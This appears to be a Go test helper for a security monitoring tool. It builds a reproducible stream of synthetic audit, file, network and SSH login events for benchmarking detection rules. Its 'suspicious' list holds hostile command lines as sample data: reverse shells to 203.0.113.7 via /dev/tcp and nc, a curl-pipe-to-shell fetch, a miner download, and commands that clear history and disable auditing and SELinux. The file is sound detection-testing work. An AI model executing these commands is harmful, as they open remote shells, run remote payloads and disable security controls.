// Package eventmix makes a reproducible mix of realistic vigil events for
// the rule engine's benchmarks and index tests: mostly exec events of
// everyday server work (package managers, shells, cron jobs, monitoring),
// some suspicious command lines, file changes, outgoing connections and
// authentication log lines, in a fixed proportion.
package eventmix

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

// commands are everyday command lines (argv, executable first).
var commands = [][]string{
	{"/usr/bin/ls", "ls", "-la", "/var/www/html"},
	{"/usr/bin/grep", "grep", "-r", "error", "/var/log/nginx/error.log"},
	{"/usr/bin/systemctl", "systemctl", "status", "nginx.service"},
	{"/usr/bin/apt-get", "apt-get", "-qq", "update"},
	{"/usr/bin/dpkg", "dpkg", "--status", "openssl"},
	{"/usr/bin/python3", "python3", "/opt/app/manage.py", "migrate", "--noinput"},
	{"/usr/bin/git", "git", "-C", "/srv/repo", "pull", "--ff-only"},
	{"/usr/bin/tar", "tar", "-czf", "/backup/etc-2025-03-14.tar.gz", "/etc"},
	{"/usr/bin/rsync", "rsync", "-az", "--delete", "/srv/data/", "backup@10.0.0.5:/srv/backup/"},
	{"/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"},
	{"/usr/bin/find", "find", "/tmp", "-type", "f", "-mtime", "+7", "-delete"},
	{"/usr/bin/ps", "ps", "aux"},
	{"/usr/bin/df", "df", "-h"},
	{"/usr/bin/cat", "cat", "/proc/meminfo"},
	{"/usr/bin/awk", "awk", "{print $1}", "/var/log/nginx/access.log"},
	{"/usr/bin/sed", "sed", "-i", "s/foo/bar/g", "/opt/app/config.ini"},
	{"/usr/bin/docker", "docker", "ps", "--format", "{{.Names}}"},
	{"/usr/bin/node", "node", "/opt/api/server.js"},
	{"/usr/bin/php", "php", "/var/www/html/cron.php"},
	{"/usr/bin/bash", "bash", "-c", "/usr/local/bin/healthcheck.sh --quiet"},
	{"/usr/bin/sh", "sh", "-c", "run-parts --report /etc/cron.hourly"},
	{"/usr/bin/curl", "curl", "-fsS", "http://127.0.0.1:8080/health"},
	{"/usr/bin/mysqldump", "mysqldump", "--single-transaction", "appdb"},
	{"/usr/bin/journalctl", "journalctl", "-u", "nginx", "--since", "1 hour ago"},
	{"/usr/sbin/sshd", "sshd", "-D", "-R"},
	{"/usr/bin/id", "id", "-u"},
	{"/usr/bin/uname", "uname", "-a"},
	{"/usr/bin/hostname", "hostname", "-f"},
	{"/usr/bin/vim", "vim", "/etc/nginx/sites-available/default"},
	{"/usr/bin/sudo", "sudo", "systemctl", "reload", "nginx"},
}

// suspicious are command lines the rules should flag.
var suspicious = [][]string{
	{"/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
	{"/usr/bin/sh", "sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"},
	{"/usr/bin/bash", "bash", "-c", "history -c"},
	{"/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"},
	{"/usr/bin/base64", "base64", "-d", "/tmp/p"},
	{"/usr/sbin/auditctl", "auditctl", "-D"},
	{"/usr/bin/chmod", "chmod", "u+s", "/tmp/.x"},
	{"/usr/bin/crontab", "crontab", "-r"},
	{"/usr/bin/wget", "wget", "-O", "/dev/shm/m", "http://203.0.113.7/xmrig"},
	{"/usr/sbin/setenforce", "setenforce", "0"},
}

var paths = []string{"/etc/nginx/nginx.conf", "/var/www/html/index.php", "/etc/passwd", "/etc/cron.d/backup",
	"/root/.ssh/authorized_keys", "/tmp/build/out.o", "/etc/sudoers.d/app", "/etc/ld.so.preload"}

var logLines = []string{
	"Failed password for invalid user admin from 198.51.100.23 port 50122 ssh2",
	"Accepted publickey for deploy from 10.0.0.8 port 51234 ssh2: ED25519 SHA256:abc",
	"pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
	"Received disconnect from 198.51.100.23 port 50122:11: Bye Bye [preauth]",
}

// Events returns n events; the same n always gives the same events.
// About 80% are exec events (1 in 20 of them suspicious), 8% file events,
// 6% connections and 6% authentication log lines.
func Events(n int) []*event.Event {
	rng := rand.New(rand.NewPCG(1, 2))
	base := time.Date(2025, 3, 14, 9, 0, 0, 0, time.UTC)
	out := make([]*event.Event, 0, n)
	for i := range n {
		t := base.Add(time.Duration(i) * 10 * time.Millisecond)
		var e *event.Event
		switch r := rng.IntN(100); {
		case r < 80:
			argv := commands[rng.IntN(len(commands))]
			if rng.IntN(20) == 0 {
				argv = suspicious[rng.IntN(len(suspicious))]
			}
			e = Exec(t, argv[0], argv[1:]...)
		case r < 88:
			e = newEvent(t, event.ActionUpdated, event.CategoryFile, event.TypeChange)
			e.Event.Dataset = "vigil.fim"
			e.File = &event.File{Path: paths[rng.IntN(len(paths))], Mode: "0644", Size: new(int64(1234))}
		case r < 94:
			e = newEvent(t, event.ActionConnectionOpened, event.CategoryNetwork, event.TypeConnection)
			e.Event.Dataset = "vigil.network"
			e.Process = &event.Process{Executable: "/usr/bin/curl", Name: "curl", PID: new(int64(4000 + i%1000))}
			e.Destination = &event.Endpoint{IP: fmt.Sprintf("198.51.100.%d", rng.IntN(250)+1), Port: new(int64(443))}
			e.Network = &event.Network{Direction: event.DirectionEgress, Transport: "tcp"}
		default:
			e = newEvent(t, event.ActionSSHLogin, event.CategoryAuthentication, event.TypeStart)
			e.Event.Dataset = "vigil.login"
			e.Event.Outcome = event.OutcomeFailure
			e.Message = "sshd[" + fmt.Sprint(20000+i%5000) + "]: " + logLines[rng.IntN(len(logLines))]
			e.Process = &event.Process{Name: "sshd", PID: new(int64(20000 + i%5000))}
			e.Source = &event.Endpoint{IP: "198.51.100.23", Port: new(int64(50122))}
			e.User = &event.User{Name: "admin"}
		}
		out = append(out, e)
	}
	return out
}

func newEvent(t time.Time, action, category, typ string) *event.Event {
	e := &event.Event{Timestamp: t,
		Host:  &event.Host{Name: "web1", ID: "6f1c0c6e4b5d4a7e9c1d2b3a4f5e6d7c", IP: []string{"10.0.0.10"}},
		Agent: &event.Agent{ID: "a1", Type: "vigil", Version: "0.1.0"}}
	e.Event.ID = event.DeterministicID(t, action)
	e.Event.Kind = event.KindEvent
	e.Event.Action = action
	e.Event.Category = []string{category}
	e.Event.Type = []string{typ}
	return e
}

// Exec returns an exec event as the audit collector makes it.
func Exec(t time.Time, exe string, args ...string) *event.Event {
	e := newEvent(t, event.ActionExec, event.CategoryProcess, event.TypeStart)
	e.Event.Dataset = "vigil.audit"
	e.Event.Module = "auditd"
	name := exe[strings.LastIndexByte(exe, '/')+1:]
	e.Process = &event.Process{
		PID: new(int64(31337)), PPID: new(int64(31000)), Executable: exe, Name: name,
		Args: args, ArgsCount: new(int64(len(args))), CommandLine: strings.Join(args, " "),
		WorkingDirectory: "/root",
		Parent:           &event.ProcessRef{PID: new(int64(31000)), Executable: "/usr/bin/bash", Name: "bash"},
	}
	e.User = &event.User{ID: "0", Name: "root", Audit: &event.UserRef{ID: "1000", Name: "alice"}}
	e.Auditd = &event.Auditd{Sequence: 4242, Session: "3", Result: "success",
		Data: map[string]string{"syscall": "execve", "exe": exe, "comm": name, "tty": "pts0", "key": "exec"}}
	return e
}
